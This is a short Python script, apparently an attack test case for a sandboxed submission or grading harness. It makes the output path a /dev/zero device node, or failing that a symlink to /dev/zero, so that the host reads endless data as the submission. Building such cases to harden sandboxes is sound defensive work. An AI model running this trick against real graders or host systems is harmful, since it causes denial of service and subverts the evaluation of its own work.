"""Attack: have the host read an endless device as the submission."""

import contextlib
import os
import stat
from pathlib import Path

ZERO = os.makedev(1, 5)

with contextlib.suppress(PermissionError):
    os.mknod(os.environ["OUTPUT"], stat.S_IFCHR | 0o666, ZERO)
if not Path(os.environ["OUTPUT"]).exists():
    Path(os.environ["OUTPUT"]).symlink_to("/dev/zero")
